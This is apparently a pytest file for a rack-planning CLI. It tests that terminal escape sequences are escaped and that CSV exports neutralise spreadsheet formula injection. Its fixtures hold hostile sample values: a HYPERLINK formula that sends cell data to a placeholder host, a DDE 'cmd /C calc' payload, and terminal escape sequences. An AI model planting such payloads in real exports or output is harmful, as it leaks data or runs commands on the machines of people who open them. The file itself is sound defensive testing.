"""Text from a project is safe where it goes: escaped on a terminal and in reports for
people, kept as text in a spreadsheet (issue 21, item 2)."""

import csv
import io
import json
import sys
from pathlib import Path

import pytest

from designer import cli

ROOT = Path(__file__).resolve().parents[2]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.fixture
def hostile(tmp_path):
    """The HGX example with a name full of terminal escapes and formula labels."""
    data = json.loads((ROOT / "projects" / "hgx-air-hall.rackplan.json").read_text())
    data["meta"]["name"] = f"HGX {ESCAPES}"
    data["placements"][0]["label"] = FORMULA
    data["placements"][1]["label"] = f"@SUM(1+1)*cmd|' /C calc'!A0{ESCAPES}"
    data["placements"][2]["label"] = "-2+3"
    second = data["placements"][1]  # on top of the first: a finding names both labels
    second["x"], second["y"] = data["placements"][0]["x"], data["placements"][0]["y"] + 300
    path = tmp_path / "hostile.rackplan.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _raw_controls(text: str) -> set[str]:
    return {c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}


@pytest.mark.parametrize("command", [["summary"], ["check"]])
def test_a_report_for_people_shows_escapes_escaped(hostile, capsys, command):
    code = cli.main([*command, str(hostile)])
    assert code in (0, 1)
    out = capsys.readouterr().out
    assert not _raw_controls(out) and "\u202e" not in out
    shown = "\\u001b]0;owned\\u0007\\u001b[2J\\u009b31m\\u202e"
    assert (f"HGX {shown}" if command == ["summary"] else f"calc'!A0{shown}") in out


def test_data_on_a_terminal_is_escaped_and_stays_parsable(hostile, capsys, monkeypatch):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    assert cli.main(["links", str(hostile), "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert not _raw_controls(out)
    assert json.loads(out)["bundles"]
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    assert cli.main(["links", str(hostile)]) == 0
    assert not _raw_controls(capsys.readouterr().out)


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_csv_cells_a_spreadsheet_would_run_stay_text(hostile, capsys, tmp_path):
    assert cli.main(["links", str(hostile)]) == 0
    cells = _cells(capsys.readouterr().out)
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'-2+3" in cells
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells if c)
    out = tmp_path / "links.csv"
    assert cli.main(["export", str(hostile), "-o", str(out)]) == 0
    assert "'" + FORMULA in _cells(out.read_text(encoding="utf-8"))


def test_csv_numbers_stay_numbers(capsys):
    assert cli.main(["bom", str(ROOT / "projects" / "hgx-air-hall.rackplan.json")]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert all(not r["quantity"].startswith("'") for r in rows)


def test_an_error_naming_a_file_with_escapes_is_one_escaped_line(tmp_path, capsys):
    name = tmp_path / "x\x1b[2J\nrm.rackplan.json"
    assert cli.main(["check", str(name)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and not _raw_controls(err)
    assert "\\u001b[2J\\nrm.rackplan.json" in err


def test_the_note_on_characters_without_a_font_shows_them_escaped(tmp_path, capsys):
    data = json.loads((ROOT / "projects" / "mistakes.rackplan.json").read_text())
    data["placements"][0]["label"] = "H100\x7f"
    path = tmp_path / "p.rackplan.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert cli.main(["export", str(path), "-o", str(tmp_path / "set.pdf")]) == 0
    err = capsys.readouterr().err
    assert "no font" in err and "\\u007f" in err and not _raw_controls(err)


def test_an_svg_of_a_label_with_a_control_character_is_xml(tmp_path, capsys):
    from xml.etree import ElementTree

    data = json.loads((ROOT / "projects" / "mistakes.rackplan.json").read_text())
    data["placements"][0]["label"] = "A\x1fB<&>"
    data["meta"]["name"] = "Hall\x01 \ufffe"  # in the SVG's title and its title block
    path = tmp_path / "p.rackplan.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert cli.main(["export", str(path), "-o", str(tmp_path / "hall.svg")]) == 0
    svg = ElementTree.fromstring((tmp_path / "hall.svg").read_bytes())
    texts = {"".join(element.itertext()).strip() for element in svg.iter()}
    # each character XML has no place for is shown as U+FFFD; what XML escapes stays
    assert "A\ufffdB<&>" in texts
    assert any(t.startswith("Hall\ufffd \ufffd") for t in texts)


@pytest.mark.parametrize(
    "command",
    [
        ["check"],
        ["summary"],
        ["links"],
        ["links", "--format", "json"],
        ["bom"],
        ["export", "-o", "set.pdf"],
        ["export", "-o", "hall.png"],
        ["export", "-o", "hall.svg"],
        ["export", "-o", "links.csv"],
        ["export", "-o", "hall.dxf"],
        ["export", "-o", "netbox.zip"],
    ],
)
def test_a_lone_surrogate_in_a_file_is_one_error_naming_the_field(tmp_path, capsys, command):
    """Before, ``check`` and ``summary`` crashed encoding it, a PNG or SVG after writing and
    a PDF segfaulted in Qt's font fallback (issue 21, item 2): each command now refuses the
    file with exit 2, one line naming the field, and writes nothing."""
    data = json.loads((ROOT / "projects" / "hgx-air-hall.rackplan.json").read_text())
    data["placements"][3]["label"] = "pasted \ud800"
    path = tmp_path / "p.rackplan.json"
    path.write_text(json.dumps(data), encoding="utf-8")  # escaped, as "\ud800"
    out = tmp_path / "out"
    out.mkdir()
    argv = [command[0], str(path), *(str(out / a) if "." in a else a for a in command[1:])]
    assert cli.main(argv) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.count("\n") == 1
    assert captured.err.startswith(f"error: {path}")
    rack = data["placements"][3]["id"]  # named with its label, shown escaped
    assert f"the field placements -> {rack} (pasted \\ud800) -> label" in captured.err
    assert "not valid Unicode" in captured.err
    assert list(out.iterdir()) == []
